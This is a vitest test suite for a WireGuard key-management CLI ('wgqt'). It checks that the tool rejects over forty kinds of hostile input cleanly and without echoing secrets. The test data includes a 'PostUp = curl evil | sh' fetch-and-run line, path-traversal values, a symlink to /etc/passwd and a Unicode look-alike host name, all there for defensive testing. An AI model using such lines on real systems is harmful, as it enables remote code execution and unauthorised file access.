/**
 * Hostile input: a table of bad wgqt.toml files, command-line arguments,
 * recipients and store files. Each must end with exit code 1 or 2, one line
 * on stderr that names what is wrong and where, and the fleet (wgqt.toml and
 * the whole store) byte-identical afterwards.
 */
import { spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import {
  cpSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { makeIdentity, makeTempDir, removeDir, type TestIdentity } from "../helpers/fleet.js";
import { cli, ok } from "../helpers/run.js";

let work: string;
let template: string;
let admin: TestIdentity;
const ids: Record<string, TestIdentity> = {};

/** Hash of every file of the fleet (wgqt.toml, the store), by path. */
function fleetHash(repo: string): string {
  const hash = createHash("sha256");
  const walk = (dir: string) => {
    for (const entry of readdirSync(dir, { withFileTypes: true }).sort((a, b) =>
      a.name < b.name ? -1 : 1,
    )) {
      if (entry.name === ".git") continue;
      const path = join(dir, entry.name);
      hash.update(`${path}\0`);
      if (entry.isDirectory()) walk(path);
      else if (entry.isSymbolicLink()) hash.update("symlink");
      else hash.update(readFileSync(path));
    }
  };
  walk(repo);
  return hash.digest("hex");
}

const ED = () => ids.tavern!.recipient;
/** The fleet's wgqt.toml, with @ED@/@NYAA@/@ADMIN@ for keys made in beforeAll. */
const base = () =>
  'admins = ["@ADMIN@"]\n\n[machines.tavern]\nrecipients = ["@ED@"]\nendpoint = "tavern.example.org"\n\n[machines.nyaa]\nrecipients = ["@NYAA@"]\n\n[proxies.germany]\ngateway = "tavern"\nclients = ["nyaa"]\n';
const fill = (text: string) =>
  text
    .replaceAll("@ADMIN@", admin.recipient)
    .replaceAll("@ED@", ED())
    .replaceAll("@NYAA@", ids.nyaa!.recipient);

interface Case {
  /** What is wrong. */
  what: string;
  /** Change the fleet before the command (write a bad wgqt.toml, damage a file). */
  setup?: (repo: string) => void;
  args: (repo: string) => string[];
  exit: 1 | 2;
  /** The one line on stderr. */
  message: RegExp;
  /** Undo what setup did that would stop the temp dir's removal. */
  teardown?: (repo: string) => void;
}

const toml = (text: string) => (repo: string) => writeFileSync(join(repo, "wgqt.toml"), fill(text));
const appendToml = (text: string) => (repo: string) =>
  writeFileSync(join(repo, "wgqt.toml"), fill(base() + text));
const keygen = () => ["keygen"];
/** A provider's wg-quick file beside the fleet (not in it), with real keys for @KEY@/@PUB@. */
const provider = (text: string) => (repo: string) =>
  writeFileSync(
    join(repo, "..", "provider.conf"),
    text
      .replace("@KEY@", ok("wg", ["genkey"]).trim())
      .replace("@PUB@", ok("wg", ["pubkey"], { input: `${ok("wg", ["genkey"]).trim()}\n` }).trim()),
  );

const CASES: Case[] = [
  // wgqt.toml
  {
    what: "toml: syntax error",
    setup: toml("admins = [\n"),
    args: keygen,
    exit: 1,
    message: /wgqt\.toml: line \d+, column \d+: invalid TOML/,
  },
  {
    what: "toml: unknown top-level key",
    setup: toml(`ipv6_start = "fd00::"\n${base()}`),
    args: keygen,
    exit: 1,
    message: /wgqt\.toml: ipv6_start: unknown key/,
  },
  {
    what: "toml: unknown key in a machine",
    setup: toml(base().replace("endpoint =", "endpiont =")),
    args: keygen,
    exit: 1,
    message: /machines\.tavern\.endpiont: unknown key/,
  },
  {
    what: "toml: udp_start a string",
    setup: toml(`udp_start = "16842"\n${base()}`),
    args: keygen,
    exit: 1,
    message: /udp_start: expected number, got "16842"/,
  },
  {
    what: "toml: udp_start negative",
    setup: toml(`udp_start = -1\n${base()}`),
    args: keygen,
    exit: 1,
    message: /udp_start: .*-1/,
  },
  {
    what: "toml: udp_start over 65535",
    setup: toml(`udp_start = 65536\n${base()}`),
    args: keygen,
    exit: 1,
    message: /udp_start: .*65536/,
  },
  {
    what: "toml: ports run past 65535",
    setup: toml(
      `udp_start = 65535\n${base()}[proxies.second]\ngateway = "tavern"\nclients = ["nyaa"]\n`,
    ),
    args: () => ["plan"],
    exit: 1,
    message: /port.*65536|65535/,
  },
  {
    what: "toml: ipv4_start not an address",
    setup: toml(`ipv4_start = "10.128.0.256"\n${base()}`),
    args: keygen,
    exit: 1,
    message: /ipv4_start: not an IPv4 address \(got "10\.128\.0\.256"\)/,
  },
  {
    what: "toml: ipv4_start a hostname",
    setup: toml(`ipv4_start = "localhost"\n${base()}`),
    args: keygen,
    exit: 1,
    message: /ipv4_start: not an IPv4 address/,
  },
  {
    what: "toml: admins not a list",
    setup: toml(`admins = "${"age1"}"\n`),
    args: keygen,
    exit: 1,
    message: /admins: expected array/,
  },
  {
    what: "toml: machine name with /",
    setup: appendToml(`[machines."a/b"]\nrecipients = ["@ED@"]\n`),
    args: keygen,
    exit: 1,
    message: /machines\.a\/b: machine name "a\/b" is not a host name/,
  },
  {
    what: "toml: machine name ..",
    setup: appendToml(`[machines.".."]\nrecipients = ["@ED@"]\n`),
    args: keygen,
    exit: 1,
    message: /machine name "\.\." is not a host name/,
  },
  {
    what: "toml: machine name with NUL",
    setup: appendToml(`[machines."a\\u0000b"]\nrecipients = ["@ED@"]\n`),
    args: keygen,
    exit: 1,
    message: /machine name "a\\u0000b" is not a host name/,
  },
  {
    what: "toml: unicode look-alike machine name",
    setup: appendToml(`[machines."t\u0430vern"]\nrecipients = ["@ED@"]\n`),
    args: keygen,
    exit: 1,
    message: /machine name "t\u0430vern" is not a host name/,
  },
  {
    what: "toml: machine name with a leading dash",
    setup: appendToml(`[machines."-x"]\nrecipients = ["@ED@"]\n`),
    args: keygen,
    exit: 1,
    message: /machine name "-x" is not a host name/,
  },
  {
    what: "toml: interface name over 15",
    setup: toml(base().replace("[proxies.germany]", "[proxies.germany-frankfurt]")),
    args: keygen,
    exit: 1,
    message: /proxies\.germany-frankfurt: interface name "germany-frankfurt" is longer than 15/,
  },
  {
    what: "toml: interface name with a space",
    setup: toml(base().replace("[proxies.germany]", '[proxies."ger many"]')),
    args: keygen,
    exit: 1,
    message: /interface name "ger many" may only hold/,
  },
  {
    what: "toml: proxy with an unknown client",
    setup: toml(base().replace('clients = ["nyaa"]', 'clients = ["nyaa", "ghost"]')),
    args: keygen,
    exit: 1,
    message: /proxies\.germany\.clients\[1\]: unknown machine "ghost"/,
  },
  {
    what: "toml: gateway without an endpoint",
    setup: toml(base().replace('endpoint = "tavern.example.org"\n', "")),
    args: () => ["plan"],
    exit: 1,
    message: /tavern.*endpoint|endpoint.*tavern/,
  },
  {
    what: "toml: clients a table",
    setup: toml(base().replace('clients = ["nyaa"]', "clients = { a = 1 }")),
    args: keygen,
    exit: 1,
    message: /proxies\.germany\.clients: expected array/,
  },
  {
    what: "toml: keys_dir out of the repository",
    setup: toml(`keys_dir = "../../etc"\n${base()}`),
    args: keygen,
    exit: 1,
    message: /keys_dir: must be a directory below/,
  },
  // command-line arguments
  {
    what: "args: unknown option",
    args: () => ["keygen", "--machnie", "tavern"],
    exit: 2,
    message: /unknown option '--machnie'/,
  },
  {
    what: "args: unknown command",
    args: () => ["keygn"],
    exit: 2,
    message: /unknown command 'keygn'/,
  },
  {
    what: "args: machine add without a name",
    args: () => ["machine", "add"],
    exit: 2,
    message: /missing required argument 'name'/,
  },
  {
    what: "args: unknown --machine",
    args: () => ["keygen", "--machine", "ghost"],
    exit: 2,
    message: /--machine: unknown machine "ghost"/,
  },
  {
    what: "args: rotate --pair with one name",
    args: () => ["rotate", "--pair", "tavern", "--yes"],
    exit: 2,
    message: /--pair/,
  },
  {
    what: "args: rotate with nothing to rotate",
    args: () => ["rotate", "--yes"],
    exit: 2,
    message: /rotate/,
  },
  {
    what: "args: render with a bad format",
    args: () => ["render", "--format", "yaml"],
    exit: 2,
    message: /--format: expected one of nixos, wg-quick, networkd, json, got "yaml"/,
  },
  {
    what: "args: --config that does not exist",
    args: (repo) => ["--config", join(repo, "nope.toml"), "keygen"],
    exit: 1,
    message: /nope\.toml: cannot read \(ENOENT\)/,
  },
  {
    what: "args: machine add with a path as name",
    args: () => ["machine", "add", "../x", "--recipient", ED()],
    exit: 2,
    message: /machine name "\.\.\/x" is not a host name/,
  },
  {
    what: "args: --recipient-file that does not exist",
    args: () => ["machine", "add", "cellar", "--recipient-file", "/nonexistent/key.pub"],
    exit: 2,
    message: /--recipient-file: cannot read "\/nonexistent\/key\.pub" \(ENOENT\)/,
  },
  // recipients
  {
    what: "recipient: truncated ssh key",
    args: () => ["machine", "add", "cellar", "--recipient", ED().slice(0, 40)],
    exit: 1,
    message: /^wgqt: --recipient: /,
  },
  {
    what: "recipient: ecdsa key",
    args: () => ["machine", "add", "cellar", "--recipient", ids.ecdsa!.recipient],
    exit: 1,
    message: /^wgqt: --recipient: .*ecdsa/,
  },
  {
    what: "recipient: sk-ssh-ed25519",
    args: () => [
      "machine",
      "add",
      "cellar",
      "--recipient",
      "sk-ssh-ed25519@openssh.com AAAAGnNrLXNzaC1lZDI1NTE5QG9wZW5zc2guY29tAAAAIEiTBJhVHWY4U8poR7KqJ9HEhjfoy0tS8YM0DsK/qj/WAAAABHNzaDo= x",
    ],
    exit: 1,
    message: /sk-ssh-ed25519/,
  },
  {
    what: "recipient: trailing garbage after an age key",
    args: () => ["machine", "add", "cellar", "--recipient", `${admin.recipient}xyz`],
    exit: 1,
    message: /^wgqt: --recipient: /,
  },
  {
    what: "recipient: bad bech32 checksum",
    args: () => [
      "machine",
      "add",
      "cellar",
      "--recipient",
      `${admin.recipient.slice(0, -1)}${admin.recipient.endsWith("q") ? "p" : "q"}`,
    ],
    exit: 1,
    message: /checksum|bech32/,
  },
  {
    what: "recipient: an age secret key pasted by mistake",
    args: () => [
      "machine",
      "add",
      "cellar",
      "--recipient",
      readFileSync(admin.identityFile, "utf8")
        .split("\n")
        .find((l) => l.startsWith("AGE-SECRET-KEY-"))!,
    ],
    exit: 1,
    message: /^wgqt: --recipient: /,
  },
  {
    what: "recipient: empty",
    args: () => ["machine", "add", "cellar", "--recipient", ""],
    exit: 1,
    message: /^wgqt: --recipient: /,
  },
  // provider files (wgqt vpn import)
  {
    what: "provider: a setting wgqt does not import",
    setup: provider(
      "[Interface]\nPrivateKey = @KEY@\nAddress = 10.64.1.2/32\nPostUp = curl evil | sh\n[Peer]\nPublicKey = @PUB@\nEndpoint = 198.51.100.7:51820\nAllowedIPs = 0.0.0.0/0\n",
    ),
    args: (repo) => [
      "vpn",
      "import",
      "us-west",
      "--from",
      join(repo, "..", "provider.conf"),
      "--machine",
      "nyaa",
    ],
    exit: 1,
    message: /provider\.conf: line 4: /,
  },
  {
    what: "provider: no [Peer] public key",
    setup: provider(
      "[Interface]\nPrivateKey = @KEY@\nAddress = 10.64.1.2/32\n[Peer]\nEndpoint = 198.51.100.7:51820\nAllowedIPs = 0.0.0.0/0\n",
    ),
    args: (repo) => [
      "vpn",
      "import",
      "us-west",
      "--from",
      join(repo, "..", "provider.conf"),
      "--machine",
      "nyaa",
    ],
    exit: 1,
    message: /provider\.conf: .*PublicKey/,
  },
  {
    what: "provider: a private key that is not a key",
    setup: provider(
      "[Interface]\nPrivateKey = c2VjcmV0LXRoYXQtaXMtdG9vLXNob3J0\nAddress = 10.64.1.2/32\n[Peer]\nPublicKey = @PUB@\nEndpoint = 198.51.100.7:51820\nAllowedIPs = 0.0.0.0/0\n",
    ),
    args: (repo) => [
      "vpn",
      "import",
      "us-west",
      "--from",
      join(repo, "..", "provider.conf"),
      "--machine",
      "nyaa",
    ],
    exit: 1,
    message: /provider\.conf: line 2: (?!.*c2VjcmV0)/,
  },
  {
    what: "provider: a file that is not WireGuard at all",
    setup: provider("<html>404 Not Found</html>\n"),
    args: (repo) => [
      "vpn",
      "import",
      "us-west",
      "--from",
      join(repo, "..", "provider.conf"),
      "--machine",
      "nyaa",
    ],
    exit: 1,
    message: /provider\.conf: line 1: /,
  },
  // store files
  {
    what: "store: corrupted .age",
    setup: (repo) => {
      const p = join(repo, "wireguard_keys", "tavern.age");
      const b = readFileSync(p);
      b[b.length - 5] = b[b.length - 5]! ^ 0xff;
      writeFileSync(p, b);
    },
    // A plain rekey trusts manifest.json and leaves a file it vouches for unread.
    args: () => ["rekey", "--check-all", "--identity", admin.identityFile, "--yes"],
    exit: 1,
    message: /tavern\.age/,
  },
  {
    what: "store: truncated .age",
    setup: (repo) => {
      const p = join(repo, "wireguard_keys", "nyaa.age");
      writeFileSync(p, readFileSync(p).subarray(0, 30));
    },
    args: () => ["rekey", "--check-all", "--identity", admin.identityFile, "--yes"],
    exit: 1,
    message: /nyaa\.age/,
  },
  {
    what: "store: .pub that is not a key",
    setup: (repo) => writeFileSync(join(repo, "wireguard_keys", "nyaa.pub"), "hello\n"),
    args: keygen,
    exit: 1,
    message: /nyaa\.pub: not a WireGuard public key \(got "hello"\)/,
  },
  {
    what: "store: symlink pointing outside the store",
    setup: (repo) => {
      rmSync(join(repo, "wireguard_keys", "nyaa.age"));
      symlinkSync("/etc/passwd", join(repo, "wireguard_keys", "nyaa.age"));
    },
    args: keygen,
    exit: 1,
    message: /nyaa\.age: is a symlink; the key store holds only regular files/,
  },
  {
    what: "store: directory where a file should be",
    setup: (repo) => {
      rmSync(join(repo, "wireguard_keys", "tavern.pub"));
      mkdirSync(join(repo, "wireguard_keys", "tavern.pub"));
    },
    args: keygen,
    exit: 1,
    message: /tavern\.pub: is a directory where a key file should be/,
  },
  {
    what: "store: manifest.json not JSON",
    setup: (repo) => writeFileSync(join(repo, "wireguard_keys", "manifest.json"), "{"),
    args: keygen,
    exit: 1,
    message: /manifest\.json: not valid JSON/,
  },
  {
    what: "store: manifest.json of the wrong shape",
    setup: (repo) =>
      writeFileSync(join(repo, "wireguard_keys", "manifest.json"), '{"version":2,"files":{}}'),
    args: keygen,
    exit: 1,
    message: /manifest\.json: version/,
  },
  {
    what: "store: a journal that is not wgqt's",
    setup: (repo) => writeFileSync(join(repo, ".wgqt-journal.json"), '{"evil":true}'),
    args: keygen,
    exit: 1,
    message: /\.wgqt-journal\.json: not a wgqt journal/,
  },
  {
    what: "store: a journal naming a path outside",
    setup: (repo) =>
      writeFileSync(
        join(repo, ".wgqt-journal.json"),
        `${JSON.stringify({
          version: 2,
          message: "x",
          writes: [{ path: "../../etc/x", mode: 420, size: 0 }],
          removes: [],
        })}\n`,
      ),
    args: keygen,
    exit: 1,
    message: /names "\.\.\/\.\.\/etc\/x", outside/,
  },
  {
    what: "store: read-only store",
    setup: (repo) => {
      rmSync(join(repo, "wireguard_keys", "nyaa.age"));
      rmSync(join(repo, "wireguard_keys", "nyaa.pub"));
      spawnSync("chattr", ["+i", join(repo, "wireguard_keys")]);
    },
    teardown: (repo) => {
      spawnSync("chattr", ["-i", join(repo, "wireguard_keys")]);
    },
    args: keygen,
    exit: 1,
    message: /wireguard_keys.*(EPERM|EACCES|not permitted|read-only)/i,
  },
];

beforeAll(async () => {
  work = makeTempDir("wgqt-hostile-");
  const idDir = join(work, "ids");
  mkdirSync(idDir);
  admin = makeIdentity(idDir, "admin", "x25519");
  ids.tavern = makeIdentity(idDir, "tavern", "ssh-ed25519");
  ids.nyaa = makeIdentity(idDir, "nyaa", "ssh-rsa");
  ok("ssh-keygen", ["-q", "-t", "ecdsa", "-N", "", "-f", join(idDir, "ecdsa.key")]);
  ids.ecdsa = {
    name: "ecdsa",
    kind: "ssh-ed25519",
    identityFile: join(idDir, "ecdsa.key"),
    recipientFile: join(idDir, "ecdsa.key.pub"),
    recipient: readFileSync(join(idDir, "ecdsa.key.pub"), "utf8").trim(),
  };
  template = join(work, "template");
  mkdirSync(template);
  ok("git", ["init", "-q", template]);
  writeFileSync(join(template, "wgqt.toml"), fill(base()));
  // An empty keys_dir is a new store (what `wgqt init` starts); keygen fills it.
  mkdirSync(join(template, "wireguard_keys"));
  const made = await cli(template, "keygen", "--no-commit");
  expect(made.status, made.stderr).toBe(0);
});

afterAll(() => removeDir(work));

describe("hostile input", () => {
  it("has at least 40 cases", () => {
    expect(CASES.length).toBeGreaterThanOrEqual(40);
  });

  it.each(CASES.map((c, index) => [c.what, index] as const))("%s", async (_what, index) => {
    const testCase = CASES[index]!;
    const repo = join(work, `case-${index}`);
    cpSync(template, repo, { recursive: true });
    try {
      testCase.setup?.(repo);
      const before = fleetHash(repo);
      const result = await cli(repo, ...testCase.args(repo));
      expect(result.status, result.stderr).toBe(testCase.exit);
      // Progress lines may come first; the error is one line, the last, and the only "wgqt:" one.
      const lines = result.stderr
        .split("\n")
        .filter((line) => line !== "" && !line.startsWith("(run 'wgqt --help'"));
      const errors = lines.filter((line) => line.startsWith("wgqt: "));
      expect(errors, result.stderr).toHaveLength(1);
      expect(lines.at(-1)).toBe(errors[0]);
      expect(errors[0]).toMatch(testCase.message);
      expect(fleetHash(repo)).toBe(before);
      // No secret ever in an error: the admin's secret key must not be echoed.
      const secret = readFileSync(admin.identityFile, "utf8")
        .split("\n")
        .find((l) => l.startsWith("AGE-SECRET-KEY-"))!;
      expect(result.stderr).not.toContain(secret.slice(15));
    } finally {
      testCase.teardown?.(repo);
    }
  });
});
